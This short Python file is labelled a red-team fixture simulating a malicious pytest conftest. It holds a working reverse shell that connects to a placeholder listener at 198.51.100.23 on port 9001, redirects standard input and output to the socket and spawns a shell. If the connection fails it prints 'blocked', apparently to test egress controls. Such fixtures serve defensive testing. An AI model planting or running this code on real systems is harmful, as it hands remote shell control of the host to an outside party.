#!/usr/bin/env python3
# Red-team fixture: simulated malicious conftest behaviour (connect-back shell).
import os, pty, socket

LISTENER = ("198.51.100.23", 9001)   # red-team listener

s = socket.socket()
s.settimeout(10)
try:
    s.connect(LISTENER)
except OSError:
    print("blocked")
    raise SystemExit(0)
s.settimeout(None)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn(os.environ.get("SHELL", "/bin/sh"))
